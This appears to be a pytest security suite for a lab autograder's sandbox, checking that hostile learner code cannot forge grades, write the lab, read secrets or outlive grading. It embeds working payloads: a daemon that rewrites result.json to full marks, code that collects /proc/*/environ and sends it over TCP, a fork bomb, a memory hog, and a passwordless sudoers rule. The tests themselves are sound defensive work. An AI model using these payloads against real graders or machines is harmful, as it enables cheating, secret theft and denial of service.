"""Grading runs the learner's code: that code must not forge the grade, change the lab, read the
grader's secrets, outlive the grade or bring the machine down.

A hostile submission (the untouched starter, which honestly earns step 1's points, plus a few lines
in handson/__init__.py, which every web server and worker of every step imports) tries it all:
- it double-forks a daemon, in a session of its own, that keeps rewriting result.json to full marks;
- it appends to the lab's labs/test_step8.py, to the reports folder and to the lab folder;
- it reads its own environment and every /proc/PID/environ it can, and sends all of it out over TCP
  (to a drop box this test listens on: what a learner could send anywhere);
and a second one starts a fork bomb in every worker. Each is graded (steps 1-2, or 1-3 for the bomb:
the honest part is step 1's, and the rest of the lab adds only minutes) by `make grade WORKSPACE=` and by
Classroom 50's autograder (the first as Classroom 50 runs it, where these tests can set that up: as a
user who is not root but may use sudo without a password), from a copy of the lab (an attack that worked would change that copy, not
this checkout), with a canary SECRET, GITHUB_TOKEN and AWS key in the grader's environment.

What stops them: services/sweep.py (every orphan comes back to the grader, which kills it before any
report), services/app_env.py (the app gets an allow-list of variables), and, as root, services/
confine.py (the app runs as a user of its own that can write none of the lab, the submission or the
reports, in a mount namespace with a private /tmp, within process, memory and file limits). Without
root the last guard is missing, and the tests that need it say so as they skip; CI runs as root.
"""
import contextlib
import hashlib
import json
import os
import shutil
import socketserver
import subprocess
import sys
import textwrap
import threading
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

from labs.harness.lesson.waiting import wait_for
from labs.harness.paths import ROOT
from labs.harness.reference import materialize
from labs.harness.services import confine
from labs.harness.services.redis import embedded_redis_binary
from labs.harness.steps import load_steps

from .helpers import marked_env, once_per_session, processes_marked
from .test_grading import autograde

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the guards need Linux")

AS_ROOT = os.geteuid() == 0
needs_root = pytest.mark.skipif(not AS_ROOT, reason="the user guard (services/confine.py) needs root: only "
                                                    "then can the grader run the app as another user")
HONEST = load_steps()[0].points  # the untouched starter passes step 1 only
CANARY = "canary-4f1c9a0e7b"
SECRETS = {"SECRET": CANARY, "GITHUB_TOKEN": CANARY, "AWS_SECRET_ACCESS_KEY": CANARY}

HOSTILE = '''

# --- a hostile submission ---
import json as _json
import os as _os
import socket as _socket
import time as _time


def _send(report):
    try:
        with _socket.create_connection(("127.0.0.1", DROP_PORT), timeout=5) as _out:
            _out.sendall((_json.dumps(report) + "\\n").encode())
    except OSError:
        pass


def _forge(target):
    if _os.fork():
        return  # the service goes on as if nothing happened
    _os.setsid()  # out of the service's process group and session
    if _os.fork():
        _os._exit(0)  # the grandchild is an orphan now
    deadline = _time.time() + 90
    while _time.time() < deadline:
        try:
            with open(target) as found:
                result = _json.load(found)
            if result["score"] != result["max-score"]:
                for test in result["tests"]:
                    test.update(score=test["max-score"], passed=True)
                result["score"] = result["max-score"]
                with open(target, "w") as forged:
                    _json.dump(result, forged)
        except Exception:
            pass
        _time.sleep(0.05)
    _os._exit(0)


def _write(path):
    try:
        with open(path, "a") as _file:
            _file.write("\\n# written by the graded code\\n")
        return "written"
    except OSError as _error:
        return _error.strerror


def _environments():
    seen = {"self": dict(_os.environ)}
    for _pid in _os.listdir("/proc"):
        try:
            with open(f"/proc/{_pid}/environ", "rb") as _environ:
                seen[_pid] = _environ.read().decode("utf-8", "replace")
        except (OSError, ValueError):
            pass
    return seen


if not _os.environ.get("HOSTILE_STARTED"):
    _os.environ["HOSTILE_STARTED"] = "1"
    _send({"writes": {path: _write(path) for path in WRITE_TARGETS}, "environments": _environments()})
    _forge(RESULT)
'''

FORK_BOMB = '''

# --- a hostile submission: a fork bomb in every worker ---
import os as _os
import sys as _sys
import time as _time

if "worker" in _sys.argv and not _os.environ.get("BOMB_STARTED"):
    _os.environ["BOMB_STARTED"] = "1"
    if _os.fork() == 0:  # the worker goes on; its child forks and forks
        # Once the step's web server runs: started before, it would be refused at the process limit too
        # (the limit counts the user's processes), and step 1's honest points lost to the bomb of its own
        # worker; that is the bomb's right, but this test is about what it can do to everything else.
        def _server_runs():
            for _pid in _os.listdir("/proc"):
                try:
                    if _pid.isdigit() and b"runserver" in open(f"/proc/{_pid}/cmdline", "rb").read():
                        return True
                except OSError:
                    pass
            return False

        _until = _time.time() + 10
        while _time.time() < _until and not _server_runs():
            _time.sleep(0.05)
        _deadline = _time.time() + 60  # the test's own safety net, should every guard fail
        _made = 0
        while _time.time() < _deadline and _made < 4000:
            try:
                if _os.fork() == 0:
                    _made = 0
                _made += 1
            except OSError:
                _time.sleep(0.2)  # the limit: wait, and try again
        _os._exit(0)
'''


MEMORY_HOG = '''

# --- a hostile (or careless) submission: the web server asks for 8 GiB at start ---
import sys as _sys

if "runserver" in _sys.argv:
    _hog = bytearray(8 << 30)
'''


class DropBox(socketserver.ThreadingTCPServer):
    """What the graded code sends out, collected on a free port of 127.0.0.1."""

    daemon_threads = True

    def __init__(self):
        self.received = []
        super().__init__(("127.0.0.1", 0), _Collect)

    @property
    def port(self):
        return self.server_address[1]

    def reports(self):
        return [json.loads(line) for line in self.received if line.strip()]


class _Collect(socketserver.StreamRequestHandler):
    def handle(self):
        self.server.received.append(self.rfile.read().decode("utf-8", "replace"))


def lab_copy(folder):
    """This lab, copied (its venv linked; another Python's venv, CI's .venv-3.13, left out): what an
    attack that worked would change."""
    shutil.copytree(ROOT, folder, ignore=shutil.ignore_patterns(".git", ".venv", ".venv-*", ".lab", "*.egg-info",
                                                                *IGNORE_NAMES),
                    symlinks=True)
    (folder / ".venv").symlink_to(ROOT / ".venv")
    return folder


IGNORE_NAMES = ("__pycache__", ".pytest_cache", ".ruff_cache", "node_modules")


def digest(lab):
    """{path: sha256} of every file of the lab but the venv and the bytecode the grader writes."""
    return {str(path.relative_to(lab)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(lab.rglob("*"))
            if path.is_file() and not {".venv", *IGNORE_NAMES}.intersection(path.parts)}


def processes_by_user(users):
    """{user: how many live processes it has, of any run} for each of ``users``."""
    counts = dict.fromkeys(users, 0)
    for proc in psutil.process_iter(["username", "status"]):
        if proc.info["username"] in counts and proc.info["status"] != psutil.STATUS_ZOMBIE:
            counts[proc.info["username"]] += 1
    return counts


class ProcessCount(threading.Thread):
    """The most processes one of grading's users (``user``, and ``user``-2 for the step graded
    alongside) had at once, sampled while a grade runs: the kernel's limit counts each user's
    processes together, whichever run they belong to."""

    def __init__(self, user):
        super().__init__(daemon=True)
        self.users, self.most, self.done = (user, f"{user}-2"), 0, threading.Event()

    def run(self):
        while not self.done.wait(0.5):
            self.most = max(self.most, *processes_by_user(self.users).values())


@dataclass
class HostileGrade:
    finished: subprocess.CompletedProcess
    result_path: Path
    lab: Path
    lab_before: dict
    left_behind: list
    sent: list  # what the graded code sent to the drop box
    most_processes: int
    sudoer: str = None  # the user the grader ran as, when not the tests' own

    def result(self):
        return json.loads(self.result_path.read_text())

    def output(self):
        return self.finished.stdout[-2000:] + self.finished.stderr[-2000:]


def grade_hostile(folder, code, grader, user=confine.DEFAULT_USER, sudoer=None, steps=None):
    """Grade the starter plus ``code`` in handson/__init__.py, through ``grader`` ("make grade" or
    "autograder"), from a copy of the lab, with the canary secrets in the grader's environment;
    as root, with the app running as ``user``. With ``sudoer``, the grader runs as that user, who may
    use sudo: `make grade` is asked to (HANDSON_GRADE_SUDO=1), the autograder is told it is on a
    GitHub-hosted runner. ``steps`` ("1-3"): only those are graded."""
    if AS_ROOT:
        assert confine.ensure_user(user) is None
    drop = DropBox()
    threading.Thread(target=drop.serve_forever, daemon=True).start()
    lab = lab_copy(folder / "lab")
    checkout = materialize(1, folder / "checkout")
    out = folder / "out" if grader == "make grade" else checkout
    targets = [str(lab / "labs" / "test_step8.py"), str(lab / "written-by-the-graded-code"),
               str(out / "written-by-the-graded-code")]
    init = checkout / "handson" / "__init__.py"
    init.write_text(init.read_text() + textwrap.dedent(code).replace("DROP_PORT", str(drop.port))
                    .replace("WRITE_TARGETS", repr(targets)).replace("RESULT", repr(str(out / "result.json"))))
    if sudoer:  # the job's user's, as the lab it fetched and the checkout are on a runner
        owner = confine.pwd.getpwnam(sudoer)
        for path in [folder, *folder.rglob("*")]:
            os.lchown(path, owner.pw_uid, owner.pw_gid)
    lab_before = digest(lab)
    counter = ProcessCount(user)
    counter.start()
    try:
        if grader == "make grade":
            mark, env = marked_env(TMPDIR=str(folder), HANDSON_LAB_DIR=str(folder / "state"),
                                   HANDSON_GRADE_USER=user, **SECRETS)
            argv = [sys.executable, "-m", "labs.harness.tools.grade", "--workspace", str(checkout), "--out", str(out),
                    *([f"--steps={steps}"] if steps else [])]
            if sudoer:
                env["HANDSON_GRADE_SUDO"] = "1"
                argv = confine.wrap(argv, lab, user=sudoer, writable=[folder], keep_privileges=True,
                                    readable=SERVER_FOLDER)
            finished = subprocess.run(argv, cwd=lab, env=env, capture_output=True, text=True, timeout=900)
            left = processes_marked(mark, folder=folder)
        else:
            runner = {}
            if sudoer:  # what a GitHub-hosted runner says of itself
                runner = dict(RUNNER_ENVIRONMENT="github-hosted",
                              via=lambda argv: confine.wrap(argv, checkout, user=sudoer, writable=[folder],
                                                            keep_privileges=True, readable=SERVER_FOLDER))
            graded = autograde(checkout, folder / "scratch", HANDSON_LAB=str(lab), HANDSON_GRADE_USER=user,
                               **({"HANDSON_GRADE_STEPS": steps} if steps else {}), **runner, **SECRETS)
            finished, left = graded.finished, graded.left_behind
    finally:
        counter.done.set()
        counter.join()
        drop.shutdown()
        drop.server_close()
    return HostileGrade(finished, out / "result.json", lab, lab_before, left,
                        drop.reports(), counter.most, sudoer)


GRADERS = ["make grade", "autograder"]
HOSTILE_STEPS = "1-2"  # the honest part passes step 1; the hostile one runs in every step's web server and worker
# A user for each grader's bomb: the two tests may run at the same time, and one bomb's processes would
# count against the other grade's limit (its honest part could not start: seen with four test jobs).
BOMB_USERS = {"make grade": "celery-handson-bomb-m", "autograder": "celery-handson-bomb-a"}
# The grader as a sudoer sees little of this machine (confine.wrap): the Redis it will start, it must.
SERVER_FOLDER = [Path(embedded_redis_binary()).resolve().parent] if embedded_redis_binary() else []
SUDOER = "celery-handson-sudoer"
SUDOERS_FOLDER = Path("/etc/sudoers.d")  # a file per test (sudo skips names with a dot)


WITH_SUDO = AS_ROOT and bool(shutil.which("sudo"))


@contextlib.contextmanager
def a_sudoer(name):
    """``name``, a user who may use sudo without a password while this lasts (one sudoers file per
    test: xdist runs them side by side; sudo skips file names with a dot)."""
    assert confine.ensure_user(SUDOER) is None
    sudoers = SUDOERS_FOLDER / f"celery-handson-tests-{name}-{os.getpid()}"
    sudoers.write_text(f"{SUDOER} ALL=(ALL) NOPASSWD: ALL\n")
    sudoers.chmod(0o440)
    try:
        yield SUDOER
    finally:
        sudoers.unlink()


@pytest.fixture(scope="module", params=GRADERS)
def hostile(request, tmp_path_factory):
    """The hostile submission graded by `make grade` (as the user running the tests: root in CI) and
    by the autograder as Classroom 50 runs it: as a user who is not root but may use sudo, on a
    GitHub-hosted runner (where there is no sudo, or no root to set it up: as the user running the tests)."""
    def grade():
        folder = tmp_path_factory.mktemp("hostile")
        if request.param == "autograder" and WITH_SUDO:
            folder.chmod(0o755)
            with a_sudoer("autograder") as sudoer:
                return grade_hostile(folder, HOSTILE, request.param, sudoer=sudoer, steps=HOSTILE_STEPS)
        return grade_hostile(folder, HOSTILE, request.param, steps=HOSTILE_STEPS)
    return once_per_session(f"hostile-{request.param.replace(' ', '-')}", grade)


def _not_forged(graded):
    """True when result.json still holds the honest grade for the next 2 s (a surviving forger writes
    within 0.05 s)."""
    return not wait_for(lambda: graded.result()["score"] != HONEST, timeout=2)


def test_the_grade_is_what_the_honest_part_earns(hostile):
    assert hostile.finished.returncode in (0, 1), hostile.output()  # 1: make grade, some test failed
    assert _not_forged(hostile), hostile.result_path.read_text()
    assert hostile.result()["score"] == HONEST


def test_nothing_the_graded_code_started_is_left_running(hostile):
    assert hostile.sent, "the graded code did not run: " + hostile.output()
    assert not hostile.left_behind, hostile.left_behind


def test_no_secret_of_the_grader_reaches_the_graded_code(hostile):
    """Neither the app's environment nor any /proc/PID/environ it can read holds the canary."""
    assert len(hostile.sent) >= 2, "the graded code did not run: " + hostile.output()  # servers and workers
    for report in hostile.sent:
        assert CANARY not in json.dumps(report), sorted(report["environments"])


@needs_root
def test_the_graded_code_cannot_write_the_lab_the_submission_or_the_reports(hostile):
    assert digest(hostile.lab) == hostile.lab_before, "the graded code changed the lab"
    for report in hostile.sent:
        assert "written" not in report["writes"].values(), report["writes"]
    assert "ran as the user `celery-handson`" in (hostile.finished.stdout + _grade_md(hostile))


def _grade_md(graded):
    for path in (graded.result_path.parent / "grade.md", graded.result_path.parent.parent / "scratch" / "reports"
                 / "grade.md"):
        if path.exists():
            return path.read_text()
    return ""


@needs_root
@pytest.mark.parametrize("grader", GRADERS)
def test_a_fork_bomb_stops_at_the_process_limit_and_ends_with_its_step(grader, tmp_path):
    """A user of its own for the bomb: the limit counts every process of the user, and other tests grade
    at the same time (so should a teacher who grades several submissions at once: HANDSON_GRADE_USER)."""
    assert confine.ensure_user(BOMB_USERS[grader]) is None
    # Three steps are enough (both graders grade two at a time): a bomb in every one of them.
    graded = grade_hostile(tmp_path, FORK_BOMB, grader, user=BOMB_USERS[grader], steps="1-3")

    assert graded.finished.returncode in (0, 1), graded.output()
    assert graded.result()["score"] == HONEST
    assert 100 < graded.most_processes <= confine.LIMITS.processes, graded.most_processes
    assert not graded.left_behind, graded.left_behind


@needs_root
def test_a_memory_hog_fails_its_step_saying_which_limit_it_hit(tmp_path):
    graded = grade_hostile(tmp_path, MEMORY_HOG, "make grade", steps="1-2")

    assert graded.finished.returncode == 1, graded.output()
    assert graded.result()["score"] == 0  # step 1's server could not start
    report = _grade_md(graded)
    limits = f"While it is graded, the app may have {confine.LIMITS.processes} processes, {confine.LIMITS.memory >> 30} GB"
    assert "MemoryError" in report and limits in report, report
    assert not graded.left_behind, graded.left_behind


@pytest.mark.skipif(not WITH_SUDO, reason="needs root, to make a user with a password-less sudo, and sudo "
                                          "(.ci/run installs it)")
def test_through_sudo_the_app_is_confined_and_the_reports_are_the_callers(hostile):
    """A GitHub-hosted runner's case (Classroom 50's): the job's user is not root but may use sudo
    without a password. The autograder asks the grade to use it (HANDSON_GRADE_SUDO=1): the grade starts
    again as root, runs the app as the user of its own, and hands the reports back to the job's user."""
    if hostile.sudoer is None:
        assert "ran as the user `celery-handson`" in _grade_md(hostile)  # make grade, as root
        return
    assert "ran as the user `celery-handson`" in _grade_md(hostile), _grade_md(hostile)
    assert hostile.result_path.stat().st_uid == confine.pwd.getpwnam(hostile.sudoer).pw_uid
